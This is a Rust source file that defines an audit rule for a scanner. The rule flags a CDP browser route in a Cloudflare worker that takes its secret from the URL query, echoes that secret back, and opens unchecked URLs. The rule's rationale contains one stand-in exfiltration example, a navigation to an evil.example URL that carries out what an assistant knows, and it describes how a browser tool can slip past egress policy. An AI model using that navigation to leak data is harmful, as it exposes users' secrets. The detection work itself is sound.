//! MW-CDP-001: the browser route.

use camino::Utf8Path;

use crate::audit::meta::{Asi, Category};
use crate::audit::syntax::bindings::enclosing_function;
use crate::audit::syntax::calls::Call;
use crate::audit::syntax::values::{Part, env_name, literal, parts};
use crate::audit::syntax::{Source, Syntax};
#[cfg(test)]
use crate::audit::testing::{Fixtures, checkout};
use crate::audit::{Confidence, Facts, Meta, Rule, Scope, Severity, Verdict};

use super::credentials::CDP_SECRET;
use super::overlay::{Overlay, is_part};
use super::{at, worker};

pub(super) static RULE: Rule = Rule {
    meta: Meta {
        id: "MW-CDP-001",
        name: "cdp-secret-in-query",
        title: "The browser is opened by a secret in the query, and may go anywhere",
        severity: Severity::High,
        category: Category::Egress,
        scopes: &[Scope::Checkout],
        what: "The `/cdp` route takes its secret from the query, hands it back in `webSocketDebuggerUrl`, and lets the browser open \
               any URL.",
        why: "URLs are logged. The browser runs outside of the container and of its egress policy: `Page.navigate` to \
              `https://evil.example/?d=…` carries anything out that the assistant knows.",
        evidence: "In files that read `CDP_SECRET`: `secret` taken from the query, texts that end in `secret=` before a value, and \
                   `goto` without a check of the URL in the same function. Each is told once a file.",
        fix: "Take the secret from a header (`Authorization: Bearer …`), answer without it, and refuse URLs that are not on a list \
              before `page.goto(url)`; or take the `browser` binding and the route out with `app.route('/cdp', cdp)`.",
        sources: &["cloudflare/moltworker src/routes/cdp.ts", "kyoneken/moltworker browser-fetch policy"],
        owasp: &[Asi::ToolMisuse, Asi::IdentityAbuse],
        checklist: &[],
    },
    check,
    #[cfg(test)]
    fixtures: Fixtures {
        failing: || {
            checkout(&[(
                "src/cdp.ts",
                "const given = url.searchParams.get('secret');\nif (!timingSafeEqual(given, c.env.CDP_SECRET)) no();\n",
            )])
        },
        passing: || {
            checkout(&[(
                "src/cdp.ts",
                "const given = c.req.header('Authorization');\nif (!timingSafeEqual(given, c.env.CDP_SECRET)) no();\n\
                 async function go(page, url) {\n  if (!isAllowedUrl(url)) return;\n  await page.goto(url);\n}\n",
            )])
        },
    },
};

fn check(facts: &Facts, verdict: &mut Verdict) {
    let Some(checkout) = worker(facts, verdict) else { return };
    let overlay = Overlay::of(checkout);
    for (path, source) in checkout.sources().iter().filter(|(path, _)| overlay.is_none() || !is_part(path)) {
        let bound = overlay.is_some() && !source.text().contains("@cloudflare/puppeteer");
        let guards = source.nodes().any(|it| env_name(it) == Some(CDP_SECRET));
        let browses = Call::all(source)
            .any(|it| it.name() == "launch" && it.receiver().is_some_and(|it| it.text() == "puppeteer"));
        if guards {
            tell(path, source, taken, "the browser's secret is taken from the query", verdict);
            tell(path, source, handed_back, "the browser's secret is handed back in a URL", verdict);
        }
        // Pages that the overlay's puppeteer opens obey the rules of the policy.
        if (guards || browses) && !bound {
            anywhere(path, source, verdict);
        }
    }
}

fn tell(path: &Utf8Path, source: &Source, is: fn(Syntax<'_>) -> bool, message: &str, verdict: &mut Verdict) {
    let places: Vec<Syntax<'_>> = source.nodes().filter(|it| is(*it)).collect();
    let Some(first) = places.first() else { return };
    let message = match places.len() - 1 {
        0 => message.to_owned(),
        1 => format!("{message}, here and in one more place"),
        more => format!("{message}, here and in {more} more places"),
    };
    verdict.find(at(path, *first, message));
}

fn taken(node: Syntax<'_>) -> bool {
    Call::of(node).is_some_and(|it| {
        let query = match it.name() {
            "get" => it.receiver().is_some_and(|it| it.text().ends_with("searchParams")),
            "query" => it.receiver().is_some_and(|it| it.text().ends_with("req")),
            _ => false,
        };
        query && it.argument(0).and_then(literal) == Some("secret")
    })
}

fn handed_back(node: Syntax<'_>) -> bool {
    node.kind() == "template_string"
        && parts(node)
            .windows(2)
            .any(|pair| matches!(pair, [Part::Text(text), Part::Value(_)] if text.ends_with("secret=")))
}

fn anywhere(path: &Utf8Path, source: &Source, verdict: &mut Verdict) {
    let open = Call::all(source).filter(|it| it.name() == "goto" && it.receiver().is_some()).find(|call| {
        let constant = call.argument(0).is_some_and(|it| literal(it).is_some());
        !constant && !enclosing_function(call.node).is_some_and(|it| checks_url(it, call.node))
    });
    if let Some(call) = open {
        let message = "the browser opens any URL: it stands outside of every egress policy";
        verdict.find(at(path, call.node, message).confidence(Confidence::Medium));
    }
}

fn checks_url(function: Syntax<'_>, before: Syntax<'_>) -> bool {
    Call::within(function).filter(|it| it.node.range().end <= before.range().start).any(|it| {
        let lower = it.name().to_ascii_lowercase();
        ["allow", "policy", "permit", "block", "check"].iter().any(|word| lower.contains(word))
    })
}
